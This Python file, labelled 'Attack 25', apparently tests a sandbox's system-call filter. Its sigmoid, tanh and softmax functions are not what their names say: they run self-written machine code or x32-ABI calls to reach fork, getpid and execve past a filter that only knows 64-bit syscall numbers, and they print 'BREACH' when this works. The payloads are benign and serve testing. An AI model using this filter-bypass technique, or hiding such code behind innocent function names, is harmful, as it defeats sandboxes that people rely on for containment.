"""Attack 25: system calls by the numbers of another kernel interface, in machine code of one's own."""

import ctypes
import mmap

import numpy as np

# mov eax, number; int 0x80; ret: a call of the 32-bit interface, where 2 is fork and 102 sockets.
CODE = b"\xb8%s\x00\x00\x00\xcd\x80\xc3"


def call(number):
    memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(CODE % bytes([number]))
    address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    return ctypes.CFUNCTYPE(ctypes.c_int)(address)()


def sigmoid(x):
    if call(2) >= 0:
        print("BREACH fork")
    return x


def tanh(x):
    if call(20) >= 0:  # getpid: harmless, but no filter of 64-bit numbers knows it
        print("BREACH getpid")
    return x


def softmax(x, axis=-1):
    # The same with 32-bit pointers: execve, of an interface that counts from 2**30.
    if ctypes.CDLL(None).syscall(ctypes.c_long(0x40000000 | 520), b"/bin/true", None, None) >= 0:
        print("BREACH execve")
    return x


def _real(x):
    return x if x.dtype.kind == "f" else x.astype(np.float64)


def relu(x):
    return np.maximum(_real(x), 0)


def leaky_relu(x, negative_slope=0.01):
    x = _real(x)
    return np.where(x >= 0, x, negative_slope * x)
